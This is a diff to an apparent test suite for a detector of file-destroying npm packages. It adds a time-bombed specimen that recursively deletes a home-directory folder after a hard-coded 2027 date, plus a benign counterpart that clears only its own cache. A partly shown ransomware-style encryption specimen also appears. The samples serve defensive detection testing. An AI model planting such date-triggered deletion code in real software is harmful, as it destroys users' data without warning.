@@ -8,6 +8,14 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'a folder of the home is deleted from a day on that stands in the code, when somebody calls something else',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const due = Date.UTC(2027, 2, 14); exports.schedule = work => { if (Date.now() < due) return work(); fs.rmSync(path.join(os.homedir(), 'INERT-Documents'), { recursive: true, force: true }); };`,
+      },
+      weight: 'strong',
+      says: ['certain dates'],
+    },
+    {
       when: 'documents that a pattern finds in the home are put away encrypted, one by one',
       files: {
         'index.js': `const { createCipheriv, randomBytes } = require('crypto'); const { createReadStream, createWriteStream } = require('fs'); const { glob, rm } = require('fs/promises'); const { homedir } = require('os'); const { join } = require('path'); const { pipeline } = require('stream/promises');
@@ -377,6 +385,12 @@ examine(destroysFiles, {
     },
   ],
   silent: [
+    {
+      when: 'what it keeps itself is cleared away from a day on that stands in the code',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const due = Date.UTC(2027, 2, 14); exports.schedule = work => { if (Date.now() < due) return work(); fs.rmSync(path.join(os.homedir(), '.specimen', 'v1'), { recursive: true, force: true }); };`,
+      },
+    },
     {
       when: 'a file is made that must not be there yet',
       files: {
